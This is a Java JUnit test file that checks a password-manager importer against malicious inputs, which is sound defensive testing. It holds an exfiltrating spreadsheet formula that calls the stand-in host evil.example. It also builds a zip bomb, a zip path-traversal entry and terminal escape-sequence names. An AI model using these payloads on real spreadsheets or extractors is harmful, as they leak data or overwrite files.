package dev.zamok.secrets.imports;

import static dev.zamok.secrets.Files.sample;
import static dev.zamok.secrets.Files.secret;
import static dev.zamok.secrets.Files.shown;
import static dev.zamok.secrets.Files.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.zamok.client.secret.SecretText;
import dev.zamok.secrets.bitwarden.BitwardenExport;
import dev.zamok.secrets.intake.ImportFailure;
import dev.zamok.secrets.intake.ImportLimits;
import dev.zamok.secrets.intake.Imported;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

class ImportAttackTest {
  private static final SecretText PASSWORD = SecretText.of("Großer Schlüssel");

  @Test
  void formulasStayTextAndNoSpreadsheetIsWritten() {
    Imported imported = Importers.read(sample("chrome.csv"), ImportFormat.CSV, null);
    assertThat(secret(imported, "formula").credentials().password().reveal())
        .isEqualTo("=HYPERLINK(\"http://evil.example/?x=\"&A1)");
    assertThat(secret(imported, "formula").notes().reveal()).isEqualTo("@SUM(1)");
    byte[] out = BitwardenExport.write(imported.secrets()).json();
    assertThat(out[0]).isEqualTo((byte) '{');
  }

  @Test
  void zipBombIsNotUnpacked() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("export.attributes"));
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i <= ImportLimits.UNPACKED_BYTES_MAX >> 20; i++) {
        zip.write(zeros);
      }
      zip.putNextEntry(new ZipEntry("export.data"));
      zip.write(utf8("{\"accounts\":[]}"));
    }
    assertThat(out.size()).isLessThan(1 << 20);
    assertThatThrownBy(() -> Importers.read(out.toByteArray(), ImportFormat.ONE_PASSWORD, null))
        .hasMessageContaining("unpacks to more");
  }

  @Test
  void aDateBeyondAllCalendarsIsLeftOutAndTheRestIsTaken() {
    String json =
        """
        {"encrypted":false,"items":[{"type":1,"name":"shop","login":{"username":"u","password":"p",
         "passwordRevisionDate":"+999999999-01-01T00:00:00Z"}}]}
        """;
    Imported imported = Importers.read(utf8(json), ImportFormat.BITWARDEN, null);
    assertThat(imported.secrets()).hasSize(1);
  }

  @Test
  void nestingWithoutEndEndsAtTheLimit() {
    String deep = "{\"items\":" + "[".repeat(1_000_000);
    assertThatThrownBy(() -> Importers.read(utf8(deep), ImportFormat.BITWARDEN, null))
        .isInstanceOf(ImportFailure.class);
  }

  @Test
  void aFileOfTooManyEntriesIsTakenNotEvenInPart() {
    String lines = "a,b\n".repeat(ImportLimits.SECRETS_MAX + 1);
    assertThatThrownBy(
            () -> Importers.read(utf8("name,password\n" + lines), ImportFormat.CSV, null))
        .hasMessageContaining("more than " + ImportLimits.SECRETS_MAX);
  }

  @Test
  void pathsInArchivesWriteNothing() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("../../../../tmp/zamok-slipped"));
      zip.write(utf8("x"));
      zip.putNextEntry(new ZipEntry("export.data"));
      zip.write(utf8("{\"accounts\":[]}"));
    }
    assertThat(Importers.read(out.toByteArray(), ImportFormat.ONE_PASSWORD, null).secrets())
        .isEmpty();
    assertThat(new java.io.File("/tmp/zamok-slipped")).doesNotExist();
  }

  @Test
  void namesWithEscapeSequencesDoNotReachATerminal() {
    String name = "\\u001b]0;evil\\u0007\\u202e name";
    String item = "{\"type\":99,\"name\":\"" + name + "\"}";
    Imported imported =
        Importers.read(utf8("{\"items\":[" + item + "]}"), ImportFormat.BITWARDEN, null);
    assertThat(imported.omissions()).hasSize(1);
    assertThat(imported.omissions().get(0).entry()).doesNotContain("\u001b", "\u0007");
  }

  /** Whatever byte is changed or cut: an import or a refusal in our words, never the file's. */
  @Test
  void brokenFilesAreRefusedInOurWords() {
    Random random = new Random(5);
    for (String name : new String[] {"bitwarden.json", "chrome.csv", "1password.csv"}) {
      byte[] sound = sample(name);
      for (int i = 0; i < 2_000; i++) {
        byte[] broken =
            i % 2 == 0 ? sound.clone() : Arrays.copyOf(sound, random.nextInt(sound.length));
        for (int k = 0; k < 3 && broken.length > 0; k++) {
          broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
        }
        ImportFormat format = name.endsWith("csv") ? ImportFormat.CSV : ImportFormat.BITWARDEN;
        Throwable thrown = catchThrowable(() -> Importers.read(broken, format, null));
        assertRefused(thrown);
      }
    }
  }

  @Test
  void brokenDatabasesAreRefusedInOurWords() {
    Random random = new Random(6);
    byte[] sound = sample("kdbx4-aes-aeskdf.kdbx");
    for (int i = 0; i < 300; i++) {
      byte[] broken =
          i % 3 == 0 ? Arrays.copyOf(sound, random.nextInt(sound.length)) : sound.clone();
      if (broken.length > 0) {
        broken[random.nextInt(broken.length)] ^= (byte) (1 << random.nextInt(8));
      }
      Throwable thrown = catchThrowable(() -> Importers.read(broken, ImportFormat.KDBX, PASSWORD));
      assertThat(thrown).isInstanceOf(ImportFailure.class);
      assertRefused(thrown);
    }
  }

  @Test
  void databaseCannotAskForMemoryWithoutEnd() {
    byte[] file = sample("kdbx4-aes-argon2d.kdbx");
    int at =
        new String(file, java.nio.charset.StandardCharsets.ISO_8859_1).indexOf("\1\0\0\0M") + 5;
    assertThat(at).isGreaterThan(5);
    file[at + 4 + 5] = 1; // 2^40 bytes
    assertThatThrownBy(() -> Importers.read(file, ImportFormat.KDBX, PASSWORD))
        .isInstanceOf(ImportFailure.class);
  }

  @Test
  void databaseCannotClaimBlocksThatAreNotThere() {
    byte[] file = sample("kdbx4-aes-aeskdf.kdbx");
    byte[] field = Arrays.copyOf(file, 17);
    Arrays.fill(field, 13, 17, (byte) 0x7f);
    assertThatThrownBy(() -> Importers.read(field, ImportFormat.KDBX, PASSWORD))
        .hasMessage("the database is damaged");
  }

  @Test
  void protectedExportCannotAskForWorkWithoutEnd() {
    String head = "{\"encrypted\":true,\"passwordProtected\":true,\"salt\":\"x\",";
    for (String work :
        new String[] {
          "\"kdfType\":0,\"kdfIterations\":2000000000",
          "\"kdfType\":0,\"kdfIterations\":1",
          "\"kdfType\":1,\"kdfIterations\":3,\"kdfMemory\":100000,\"kdfParallelism\":1",
          "\"kdfType\":1,\"kdfIterations\":1000,\"kdfMemory\":64,\"kdfParallelism\":1"
        }) {
      byte[] file = utf8(head + work + ",\"data\":\"2.a|b|c\"}");
      assertThatThrownBy(() -> Importers.read(file, ImportFormat.BITWARDEN, PASSWORD))
          .hasMessageContaining("more or less work");
    }
  }

  private static void assertRefused(Throwable thrown) {
    if (thrown != null) {
      assertThat(thrown).isInstanceOf(ImportFailure.class).hasNoCause();
      assertThat(shown(thrown))
          .doesNotContain("Boxk", "s3cret", "alice", "4111111111111111", "JBSWY3", "example");
    }
  }
}
